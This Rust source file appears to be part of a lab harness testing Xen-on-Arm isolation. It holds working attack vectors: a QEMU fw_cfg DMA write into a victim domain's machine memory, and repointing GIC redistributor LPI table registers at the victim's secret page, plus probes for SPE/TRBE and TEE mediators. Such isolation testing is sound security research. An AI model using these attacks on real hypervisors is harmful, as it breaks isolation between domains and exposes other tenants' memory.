//! V17 to V20: what reads and writes memory without asking Xen's tables. What
//! the machine does not have is found out by asking it.

use std::fs;
use std::path::Path;

use super::registers::read_through_own_table;
use super::{Attacker, Facts, Level, Outcome, Vector, facts};
use crate::Failure;
use crate::lab::{Lab, Phase};
use crate::memory::{Page, Window};

const TREE: &str = "/sys/firmware/devicetree/base";
/// QEMU's fw_cfg: its DMA address register, and a command that selects item 0
/// (the signature) and copies it to memory (QEMU, docs/specs/fw_cfg.rst).
const DMA_REGISTER: usize = 16;
const SELECT_AND_READ: u32 = 0x08 | 0x02;
const SIGNATURE: [u8; 4] = *b"QEMU";
/// Where in the page that the canary does not check.
const OFFSET: u64 = 0x800;

pub fn all() -> Vec<Box<dyn Vector>> {
    vec![
        Box::new(Dma),
        Box::new(Its),
        Box::new(Redistributor),
        Box::new(Trace),
        Box::new(Tee),
    ]
}

/// A device of dom0 that copies to any machine address.
struct Dma;

impl Vector for Dma {
    fn facts(&self) -> Facts {
        facts(
            "V17",
            "dom0 has a device without IOMMU write the victim's memory (QEMU's fw_cfg)",
            Attacker::Hypercalls,
            Level::Never,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let Some(base) = device("fw-cfg@") else {
            return Ok(Outcome::NotApplicable(
                "dom0 has no device that does DMA".into(),
            ));
        };
        let target = lab.victim().spare.maddr + OFFSET;
        let command = Page::new()?;
        let control = u64::from(SELECT_AND_READ.to_be());
        let length = u64::from((SIGNATURE.len() as u32).to_be());
        command.put(0, control | length << 32);
        command.put(1, target.to_be());
        command.publish();
        let registers = Window::open(base)?;
        registers.device_store(DMA_REGISTER, (command.address >> 32) as u32);
        registers.device_store(DMA_REGISTER + 4, command.address as u32);
        let seen = match lab.phase {
            Phase::Before => {
                let seen = lab.read_physical(target)?;
                lab.give_back()?;
                seen
            }
            // Nothing but V09 can look there any more.
            Phase::After => match read_through_own_table(lab, target)? {
                Ok(seen) => seen,
                Err(stop) => {
                    return Ok(Outcome::NotAttempted(format!(
                        "what the device wrote cannot be seen: {stop}"
                    )));
                }
            },
        };
        let outcome = if seen.to_le_bytes()[..4] == SIGNATURE {
            Outcome::Success(format!(
                "the device has written {seen:#x} at machine address {target:#x}"
            ))
        } else {
            Outcome::Failed(format!("{seen:#x} is at {target:#x}"))
        };
        if lab.phase == Phase::Before && lab.directmap {
            lab.primitive.store(0, lab.directmap_va(target), 0)?;
        }
        Ok(outcome)
    }
}

/// The first address of a device in dom0's device tree.
fn device(name: &str) -> Option<u64> {
    let entries = fs::read_dir(TREE).ok()?;
    let node = entries
        .flatten()
        .find(|entry| entry.file_name().to_string_lossy().starts_with(name))?;
    let reg = fs::read(node.path().join("reg")).ok()?;
    let first = reg.get(..8)?;
    Some(u64::from_be_bytes(first.try_into().ok()?))
}

/// The interrupt controller's tables in memory.
struct Its;

impl Vector for Its {
    fn facts(&self) -> Facts {
        facts(
            "V18",
            "an ITS or LPI tables as a DMA engine",
            Attacker::L2,
            Level::Lock,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let Some(list) = lab.symbols.find("host_its_list") else {
            return Ok(Outcome::NotApplicable(
                "this Xen has no support for an ITS, and so no LPI tables".into(),
            ));
        };
        Ok(if lab.read(list)? == list {
            Outcome::NotApplicable("Xen has found no ITS (host_its_list is empty)".into())
        } else {
            Outcome::NotAttempted("there is an ITS".into())
        })
    }
}

/// A redistributor, whether Xen uses LPIs or not.
struct Redistributor;

/// GICR_PROPBASER and GICR_PENDBASER (Arm IHI 0069, 12.11).
const TABLES: [u64; 2] = [0x70, 0x78];
/// Where a table may be: bits 51 to 16.
const ADDRESS: u64 = 0x000f_ffff_ffff_0000;

impl Vector for Redistributor {
    fn facts(&self) -> Facts {
        facts(
            "V18",
            "write where a redistributor has its tables of LPIs, which it reads and writes (counts when it takes the address)",
            Attacker::L2,
            Level::Lock,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let Some(rbase) = lab.symbols.find("per_cpu_rbase") else {
            return Ok(Outcome::NotApplicable("no GICv3 in this build".into()));
        };
        let offset = lab.read(lab.symbols.symbol("__per_cpu_offset")?)?;
        let base = lab.read(rbase.wrapping_add(offset))?;
        if base == 0 {
            return Ok(Outcome::NotApplicable("no redistributor".into()));
        }
        let wanted = lab.victim().secret.maddr & ADDRESS;
        let mut outcomes = Vec::new();
        for register in TABLES {
            let at = base + register;
            let old = lab.read(at)?;
            outcomes.push(match lab.primitive.store(0, at, wanted) {
                Err(stop) => Outcome::Failed(stop.to_string()),
                Ok(()) => match lab.read(at)? & ADDRESS {
                    found if found == wanted => {
                        Outcome::Success(format!("the register {register:#x} takes {wanted:#x}"))
                    }
                    found => Outcome::Failed(format!("the register {register:#x} is {found:#x}")),
                },
            });
            if matches!(outcomes.last(), Some(Outcome::Success(_))) {
                lab.primitive.store(0, at, old)?;
            }
        }
        Ok(Outcome::every(lab, outcomes))
    }
}

/// Units that write traces to memory.
struct Trace;

impl Vector for Trace {
    fn facts(&self) -> Facts {
        facts(
            "V19",
            "SPE or TRBE write the victim's memory",
            Attacker::L3,
            Level::Seal,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let at =
            lab.symbols.symbol("system_cpuinfo")? + lab.symbols.member("cpuinfo_arm", "dbg64")?;
        // ID_AA64DFR0_EL1 (Arm ARM D24.2.71): PMSVer, TraceBuffer.
        let dfr0 = lab.read(at)?;
        let (spe, trbe) = (dfr0 >> 32 & 15, dfr0 >> 44 & 15);
        Ok(if (spe, trbe) == (0, 0) {
            Outcome::NotApplicable(format!(
                "the CPUs have neither: ID_AA64DFR0_EL1 is {dfr0:#x}"
            ))
        } else {
            Outcome::NotAttempted(format!("the CPUs have SPE {spe}, TRBE {trbe}"))
        })
    }
}

/// Firmware that shares or lends memory.
struct Tee;

impl Vector for Tee {
    fn facts(&self) -> Facts {
        facts(
            "V20",
            "a mediator (FF-A, OP-TEE) shares or lends the victim's memory",
            Attacker::Hypercalls,
            Level::Lock,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let built = match lab.symbols.find("cur_mediator") {
            None => "this Xen has no mediator built in",
            Some(at) if lab.read(at)? == 0 => "Xen has found no firmware to mediate",
            Some(_) => return Ok(Outcome::NotAttempted("there is a mediator".into())),
        };
        let node = Path::new(TREE).join("firmware/optee").exists();
        Ok(Outcome::NotApplicable(format!(
            "{built}; the device tree has {} OP-TEE",
            if node { "an" } else { "no" }
        )))
    }
}
